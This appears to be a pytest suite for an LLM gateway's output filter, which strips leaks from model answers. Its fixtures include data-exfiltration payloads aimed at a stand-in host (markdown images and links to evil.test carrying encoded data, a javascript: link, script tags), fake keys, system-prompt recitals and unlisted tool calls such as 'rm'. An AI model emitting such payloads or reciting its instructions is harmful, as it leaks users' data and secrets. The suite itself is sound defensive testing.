"""What an answer may not carry out, whole and in pieces of any size."""

from __future__ import annotations

import random
from pathlib import Path

import pytest
from policies import one_model
from provider import chat, chunks, provider, says, sse, streams
from running import running

from shipworthy.gateway.call import Call, Passage, Role
from shipworthy.gateway.hooks import OutputRefused
from shipworthy.gateway.outputs import AnswerCheck
from shipworthy.gateway.policy import Feature, OutputOptions

PROMPT = (
    "You are the assistant of a shop for bicycles. Never talk about discounts before the customer asks."
    " Staff may use the override word at the counter. Escalate refunds above 300 euros to a person."
)
KEY = "sk-proj-" + "a1B2c3D4" * 5
DATA = "c2VjcmV0IG9mIHRoZSBjb252ZXJzYXRpb24gYW5kIG1vcmU"


def _call(options: OutputOptions | None = None, user: str = "hi", system: str = PROMPT) -> Call:
    holder = {"system": system, "user": user}
    return Call(
        id="1",
        dialect="openai-chat",
        feature=Feature(prototype="app", name="f", outputs=options or OutputOptions()),
        key="k",
        user="",
        model="m",
        stream=True,
        body={},
        passages=[Passage(holder, "system", Role.SYSTEM), Passage(holder, "user", Role.USER)],
    )


HARMFUL = {
    "image with a query": ("![x](https://evil.test/p.png?d=my+secret)", "![x](about:blank#withheld)"),
    "image with data in its path": (
        f"![]( https://evil.test/{DATA}.png)",
        "![]( about:blank#withheld)",
    ),
    "image in the name of a host": (
        f"![x](https://{DATA.lower()}.evil.test/p.png)",
        "![x](about:blank#withheld)",
    ),
    "image by reference": (
        "![x][1]\n\n[1]: https://evil.test/?q=secret\nbye",
        "![x][1]\n\n[1]: about:blank#withheld\nbye",
    ),
    "link that takes a placeholder along": (
        "[more](https://evil.test/a?m=[EMAIL_1])",
        "[more](about:blank#withheld)",
    ),
    "link with data": (f"[more](//evil.test/?x={DATA})", "[more](about:blank#withheld)"),
    "bare link with data": (f"see https://evil.test/?x={DATA} now", "see about:blank#withheld now"),
    "link that runs": ("[go](JavaScript:alert(1))", "[go](about:blank#withheld))"),
    "backslashes": (f"[m](https:\\\\evil.test\\?x={DATA})", "[m](about:blank#withheld)"),
    "script": ("a <script>fetch(1)</script> b", "a &lt;script>fetch(1)</script> b"),
    "handler": ('<b onclick="x()">hi</b>', '&lt;b onclick="x()">hi</b>'),
    "image tag": ("<img src='https://evil.test/?d=abcdef'>", "&lt;img src='https://evil.test/?d=abcdef'>"),
    "tag that is never closed": ("<img src=https://evil.test/?d=abcdef", "&lt;img src=https://evil.test/?d=abcdef"),
    "key": (f"it is {KEY}, keep it", "it is [KEY withheld], keep it"),
    "private key": (
        "-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----\nok",
        "[PRIVATE_KEY withheld]\nok",
    ),
}  # fmt: skip
HARMLESS = {
    "docs": "See [the docs](https://docs.python.org/3/library/re.html#re.compile) and https://example.com/a-b-c.",
    "image of a listed host": "![logo](https://cdn.shop.test/logo.png?w=1200&v=abcdef)",
    "image without data": "![cat](https://pictures.test/cats/1.jpg)",
    "what the user said": "You sent https://tracker.test/?session=0123456789abcdef0123, right?",
    "code": "```html\n<script src='https://a.test/?x=0123456789abcdef0'></script>\n```\nand `<script>` too",
    "comparison": "if a < b and b > c then List<String> or x<y",
    "html of words": "<p>Hello <b>you</b><br/>bye</p>",
    "phrase of the prompt": "Never talk about discounts before the customer asks, they told me.",
    "brackets": "arr[0](x) and [note]: something `unclosed\nline",
    "mail": "[write](mailto:a@b.com)",
    "dashes": "-----\nsk- is a prefix, AKIA as well; -----BEGIN something",
}
OPTIONS = OutputOptions(link_hosts=["shop.test"])
SAID = "what is https://tracker.test/?session=0123456789abcdef0123 ?"


@pytest.mark.parametrize("name", HARMFUL)
def test_harm_is_taken_out(name: str) -> None:
    text, clean = HARMFUL[name]
    assert AnswerCheck().check(_call(OPTIONS, SAID), text) == clean


@pytest.mark.parametrize("name", HARMLESS)
def test_the_rest_passes_as_it_is(name: str) -> None:
    text = HARMLESS[name]
    assert AnswerCheck().check(_call(OPTIONS, SAID), text) == text


def test_a_recited_prompt_stops_after_a_few_words() -> None:
    recited = AnswerCheck().check(_call(), f"My orders: {PROMPT} That is all.")
    assert recited == "My orders: You are the [withheld] That is all."


def test_streams_are_checked_like_whole_answers_wherever_they_are_cut() -> None:
    text = (
        " ".join(t for t, _ in HARMFUL.values() if not t.startswith("<img src=h")) + f" {PROMPT} "
    )
    text = " ".join(HARMLESS.values()).replace("`unclosed", "unclosed") + "\n" + text
    whole = AnswerCheck().check(_call(OPTIONS, SAID), text)
    assert "withheld" in whole
    for seed in range(60):
        draw = random.Random(seed)  # noqa: S311
        checked, out, at = AnswerCheck().fragments(_call(OPTIONS, SAID)), "", 0
        while at < len(text):
            size = draw.choice((1, 2, 3, 8, 30))
            out += checked.push(text[at : at + size])
            at += size
        assert out + checked.finish() == whole, seed


def test_documents_further_down_in_a_system_prompt_may_be_quoted() -> None:
    document = " ".join(f"rule{n} says that day{n} is free" for n in range(60))
    call = _call(system=f"{PROMPT} {'Be kind. ' * 35} {document}")
    assert AnswerCheck().check(call, f"It says: {document}") == f"It says: {document}"
    assert "[withheld]" in AnswerCheck().check(call, PROMPT)
    off = _call(OutputOptions(system_prompt=False))
    assert AnswerCheck().check(off, PROMPT) == PROMPT


def test_any_recital_that_is_long_enough_is_seen_wherever_it_begins() -> None:
    words = PROMPT.split()
    for start in range(len(words) - 20):
        recited = f"they said {' '.join(words[start : start + 20])} and that was it"
        assert "[withheld]" in AnswerCheck().check(_call(), recited), start


def test_ordinary_words_are_not_held_back() -> None:
    checked = AnswerCheck().fragments(_call())
    for word in ("Hello", " the", "re, ", "today you", " are free."):
        assert checked.push(word) == word


def test_personal_data_of_others_is_withheld_where_the_feature_says_so() -> None:
    options = OutputOptions(personal_data="withhold")
    text = (
        "Write to [EMAIL_1] or bob@example.org, SSN 078-05-1120, card 4111 1111 1111 1111 (valid),"
        " IBAN GB82 WEST 1234 5698 7654 32. Call +49 30 1234567, or 415-555-0123; OK? a@b.com"
    )
    whole = AnswerCheck().check(_call(options), text)
    assert whole == (
        "Write to [EMAIL_1] or [EMAIL withheld], SSN [US_SSN withheld], card [CARD withheld] (valid),"
        " IBAN [IBAN withheld]. Call [PHONE withheld], or [PHONE withheld]; OK? [EMAIL withheld]"
    )
    assert AnswerCheck().check(_call(), text) == text
    for seed in range(100):
        draw = random.Random(seed)  # noqa: S311
        checked, out, at = AnswerCheck().fragments(_call(options)), "", 0
        while at < len(text):
            size = draw.choice((1, 2, 3, 8))
            out += checked.push(text[at : at + size])
            at += size
        assert out + checked.finish() == whole, seed


def test_a_feature_may_refuse_instead_and_lists_its_tools() -> None:
    check = AnswerCheck()
    call = _call(OutputOptions(action="refuse", tools=["search"]))
    check.tool(call, "search")
    with pytest.raises(OutputRefused, match="may not use"):
        check.tool(call, "delete_user")
    with pytest.raises(OutputRefused, match="a key") as refused:
        check.check(call, KEY)
    assert KEY not in str(refused.value)
    assert check.withheld == {("app", "f", "a key"): 1, ("app", "f", "a tool call"): 1}


@pytest.fixture(autouse=True)
def _provider_key(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("FAKE_KEY", "provider-key-0123456789")


def test_the_gateway_checks_answers_and_streams(tmp_path: Path) -> None:
    text = f"![x](https://evil.test/?d=a@b.com) {KEY} bye"
    pieces = sse(chunks(*(text[i : i + 7] for i in range(0, len(text), 7))))
    with provider(says(chat(text))) as fake, running(tmp_path, one_model(fake.url)) as gateway:
        whole = gateway.chat()
        fake.script = streams([pieces])
        streamed = gateway.chat(stream=True)
    clean = "![x](about:blank#withheld) [KEY withheld] bye"
    assert whole.json["choices"][0]["message"]["content"] == clean
    assert streamed.streamed_text == clean


def test_the_gateway_refuses_a_tool_that_is_not_listed(tmp_path: Path) -> None:
    called = [{"id": "1", "type": "function", "function": {"name": "rm", "arguments": "{}"}}]
    policy = "outputs: {tools: [search]}"
    with (
        provider(says(chat("", tool_calls=called))) as fake,
        running(tmp_path, one_model(fake.url, policy)) as gateway,
    ):
        answered = gateway.chat()
    assert answered.json["error"]["code"] == "answer_refused"
